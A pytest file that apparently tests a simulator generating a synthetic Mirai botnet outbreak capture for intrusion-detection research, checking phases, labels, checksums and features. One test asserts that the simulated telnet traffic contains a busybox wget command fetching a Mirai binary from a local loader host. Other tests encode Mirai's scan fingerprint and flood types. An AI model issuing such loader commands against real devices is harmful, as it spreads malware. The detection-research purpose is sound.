"""The simulated camera LAN with a Mirai outbreak: bytes, labels, phases, realism comparison, CLI."""

from __future__ import annotations

import datetime as dt
import hashlib
import json

import dpkt
import numpy as np
import pytest
from conftest import shared_file

from nidslab.errors import ConfigError
from nidslab.simulate import FULL_ONSET, FULL_PACKETS, SimConfig, simulate_capture

N = 20_000


@pytest.fixture(scope="module")
def sim(tmp_path_factory):
    path = tmp_path_factory.mktemp("sim") / "capture.pcap"
    return simulate_capture(path, packets=N, seed=0)


@pytest.fixture(scope="module")
def frames(sim):
    with open(sim.path, "rb") as fh:
        return list(dpkt.pcap.Reader(fh))


def _sha(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_same_seed_same_bytes_other_seed_other_bytes(sim, tmp_path):
    again = simulate_capture(tmp_path / "again.pcap", packets=N, seed=0)
    other = simulate_capture(tmp_path / "other.pcap", packets=N, seed=1)
    assert _sha(again.path) == _sha(sim.path)
    assert np.array_equal(again.labels_truth, sim.labels_truth)
    assert _sha(other.path) != _sha(sim.path)
    assert other.n_packets == N


def test_standard_reader_reads_every_packet(sim, frames):
    assert sim.n_packets == N == len(frames)
    ts = np.array([t for t, _ in frames])
    assert np.all(np.diff(ts) >= 0)
    first = dt.datetime.fromtimestamp(ts[0], dt.timezone.utc)
    last = dt.datetime.fromtimestamp(ts[-1], dt.timezone.utc)
    assert first.year == last.year == 2018
    assert first.strftime("%Y-%m-%d %H:%M:%S") == "2018-10-25 05:46:22"
    lengths = np.array([len(b) for _, b in frames])
    assert lengths.min() >= 60 and lengths.max() <= 1514


def test_checksums_are_valid(frames):
    bad = checked = 0
    for _, buf in frames[::37]:
        eth = dpkt.ethernet.Ethernet(buf)
        ip = eth.data
        if not isinstance(ip, dpkt.ip.IP):
            continue
        raw = bytes(ip)[: ip.len]
        want_ip = ip.sum
        ip.sum = 0
        got = dpkt.in_cksum(bytes(ip.pack_hdr()) + bytes(ip.opts))
        bad += got != want_ip
        l4 = ip.data
        if isinstance(l4, (dpkt.tcp.TCP, dpkt.udp.UDP)) and len(raw) == ip.len:
            want = l4.sum
            seg = raw[ip.hl * 4 :]
            seg = seg[:16] + b"\0\0" + seg[18:] if isinstance(l4, dpkt.tcp.TCP) else seg[:6] + b"\0\0" + seg[8:]
            pseudo = raw[12:20] + bytes([0, ip.p]) + len(seg).to_bytes(2, "big")
            got = dpkt.in_cksum(pseudo + seg)
            bad += got != want and not (isinstance(l4, dpkt.udp.UDP) and want == 0xFFFF and got == 0)
        checked += 1
    assert checked > 300 and bad == 0


def test_label_layouts(sim):
    onset = round(N * FULL_ONSET / FULL_PACKETS)
    assert sim.onset_index == onset == 3183
    assert sim.labels_kitsune.dtype == np.uint8 and sim.labels_truth.dtype == np.uint8
    assert np.array_equal(sim.labels_kitsune, (np.arange(N) >= onset).astype(np.uint8))
    assert sim.labels_truth[:onset].sum() == 0
    assert sim.labels_truth[onset] == 1
    after = sim.labels_truth[onset:]
    assert 0.5 < after.mean() < 0.999  # mostly attack, background goes on
    d = sim.to_dict()
    json.dumps(d)
    assert d["malicious_truth"] == int(sim.labels_truth.sum()) and d["onset_index"] == onset


def test_phase_timeline(sim):
    names = [p[0] for p in sim.phases]
    assert names == ["benign", "scan", "bruteforce", "loader", "propagation", "flood"]
    starts = [p[1] for p in sim.phases]
    firsts = [p[3] for p in sim.phases]
    assert starts == sorted(starts) and firsts == sorted(firsts)
    assert all(p[2] >= p[1] for p in sim.phases)
    assert sim.phases[0][3] == 0 and sim.phases[1][3] == sim.onset_index
    assert sim.phases[1][1] == pytest.approx(sim.phases[0][2])
    assert sim.phases[-1][2] == pytest.approx(sim.end_time)
    assert all(sim.labels_truth[p[3]] == 1 for p in sim.phases[1:])


@pytest.mark.parametrize("seed", [0, 1, 2])
def test_onset_is_exact_despite_timestamp_ties(tmp_path, seed):
    # P2P bursts put several packets on one microsecond, so the onset often falls inside a tie
    n = 60_000
    s = simulate_capture(tmp_path / "o.pcap", packets=n, seed=seed)
    onset = round(n * FULL_ONSET / FULL_PACKETS)
    assert s.onset_index == onset and s.phases[1][3] == onset
    assert s.labels_truth[:onset].sum() == 0 and s.labels_truth[onset] == 1


def test_scan_ports_nine_in_ten_telnet(sim, frames):
    ports = []
    labels = sim.labels_truth
    for i, (_, buf) in enumerate(frames):
        if not labels[i]:
            continue
        ip = dpkt.ethernet.Ethernet(buf).data
        if isinstance(ip, dpkt.ip.IP) and isinstance(ip.data, dpkt.tcp.TCP):
            tcp = ip.data
            if tcp.flags == dpkt.tcp.TH_SYN and len(bytes(tcp)) - len(tcp.data) == 20:  # raw scan SYNs: no options
                ports.append(tcp.dport)
                assert tcp.seq == int.from_bytes(ip.dst, "big")  # Mirai's fingerprint: seq = target
    ports = np.array(ports)
    assert len(ports) > 5000
    assert set(np.unique(ports)) == {23, 2323}
    assert np.mean(ports == 2323) == pytest.approx(0.1, abs=0.01)


def test_features_extract_cleanly(sim):
    from nidslab.features import ReadReport, extract_features

    report = ReadReport(str(sim.path))
    X = extract_features(sim.path, report=report)
    assert X.shape == (N, 115)
    assert report.malformed == 0 and report.truncated is None and report.messages() == []
    assert np.isfinite(X).all()
    # attack and benign rows differ: scanners' sockets fan out, so HpHp weights drop
    assert not np.allclose(X[: sim.onset_index].mean(0), X[sim.onset_index :].mean(0))


@pytest.mark.parametrize("flood", ["syn", "ack"])
def test_flood_types(tmp_path, flood):
    cfg = SimConfig(flood_type=flood)
    s = simulate_capture(tmp_path / "f.pcap", packets=8000, seed=3, config=cfg)
    with open(s.path, "rb") as fh:
        frames = list(dpkt.pcap.Reader(fh))
    assert len(frames) == 8000
    flood_start = [p for p in s.phases if p[0] == "flood"][0][3]
    flags = set()
    for _, buf in frames[flood_start:]:
        ip = dpkt.ethernet.Ethernet(buf).data
        if isinstance(ip, dpkt.ip.IP) and isinstance(ip.data, dpkt.tcp.TCP) and ip.data.dport not in (23, 2323):
            flags.add(ip.data.flags)
    assert (dpkt.tcp.TH_SYN if flood == "syn" else dpkt.tcp.TH_ACK) in flags


def test_bad_config_is_a_config_error(tmp_path):
    with pytest.raises(ConfigError, match="flood_type"):
        simulate_capture(tmp_path / "x.pcap", packets=100, config=SimConfig(flood_type="http"))
    assert not (tmp_path / "x.pcap").exists()
    assert SimConfig.from_dict(SimConfig().to_dict()) == SimConfig()


def test_compare_with_real_sample(sim):
    from nidslab.simulate.compare import compare_with_capture, table_rows

    real = shared_file("kitsune-mirai", "mirai2000.pcap")
    res = compare_with_capture(real, sim)
    assert res["real"]["packets"] == 2000
    assert res["sim"]["duration_s"] == pytest.approx(res["real"]["duration_s"], abs=1.0)
    assert res["real"]["packets_per_s"] == pytest.approx(28.1, abs=0.1)
    assert 0 <= res["protocol_tv"] < 0.2 and 0 <= res["size_ks"] < 0.2 and 0 <= res["iat_ks"] < 0.3
    assert set(res["feature_ks"]) == {"MI_dir", "H", "HH", "HH_jit", "HpHp"}
    assert all(0 <= v["mean"] <= v["max"] <= 1 for v in res["feature_ks"].values())
    assert len(table_rows(res)) > 15
    json.dumps(res)


def test_cli_writes_and_summarises(tmp_path):
    from typer.testing import CliRunner

    from nidslab.cli import app

    out = tmp_path / "c.pcap"
    r = CliRunner().invoke(app, ["simulate", "-o", str(out), "--packets", "5000", "--seed", "2"])
    assert r.exit_code == 0, r.output
    assert out.stat().st_size > 5000 * 76
    r = CliRunner().invoke(app, ["simulate"])
    assert r.exit_code == 2


def test_payloads_decode(sim, frames):
    """DNS queries and the gateway's answers, telnet logins and the loader's wget are real protocol bytes."""
    names, answers, telnet = set(), 0, b""
    for i, (_, buf) in enumerate(frames):
        ip = dpkt.ethernet.Ethernet(buf).data
        if not isinstance(ip, dpkt.ip.IP):
            continue
        l4 = ip.data
        if isinstance(l4, dpkt.udp.UDP) and 53 in (l4.sport, l4.dport):
            dns = dpkt.dns.DNS(bytes(l4.data))
            names.add(dns.qd[0].name)
            answers += dns.qr == 1 and dns.rcode == 3
        elif isinstance(l4, dpkt.tcp.TCP) and sim.labels_truth[i] and 23 in (l4.sport, l4.dport):
            telnet += bytes(l4.data)
    assert {"xmpp.samsungsmartcam.com", "authentication.eye4.cn", "devs.tplinkcloud.com"} <= names
    assert answers > 20
    assert b"login: " in telnet and b"Login incorrect" in telnet and b"/bin/busybox MIRAI" in telnet
    assert b"/bin/busybox wget http://192.168.2.200:80/bins/mirai.arm7" in telnet


def test_cli_compare_prints_the_table(tmp_path):
    from typer.testing import CliRunner

    from nidslab.cli import app

    real = shared_file("kitsune-mirai", "mirai2000.pcap")
    out = tmp_path / "cmp.json"
    r = CliRunner().invoke(app, ["simulate", "--compare", str(real), "--packets", "20000", "--json", str(out)])
    assert r.exit_code == 0, r.output
    assert "share TCP" in r.stdout and "HpHp" in r.stdout
    res = json.loads(out.read_text())
    assert res["real"]["packets"] == 2000 and 0 <= res["protocol_tv"] <= 1
